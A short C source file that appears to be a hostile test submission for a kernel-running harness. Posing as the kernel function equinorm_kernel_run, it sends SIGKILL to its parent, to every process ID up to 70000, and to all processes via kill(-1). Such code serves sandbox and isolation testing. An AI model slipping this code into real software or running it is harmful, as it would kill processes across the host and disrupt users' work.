/* Kills whatever it can name: its parent, its group, everybody. */
#include <signal.h>
#include <unistd.h>

#include "honest.h"

int32_t equinorm_kernel_run(const equinorm_call* call) {
  honest(call);
  kill(getppid(), SIGKILL);
  for (pid_t process = 1; process < 70000; ++process) {
    if (process != getpid()) kill(process, SIGKILL);
  }
  kill(-1, SIGKILL);
  return EQUINORM_OK;
}
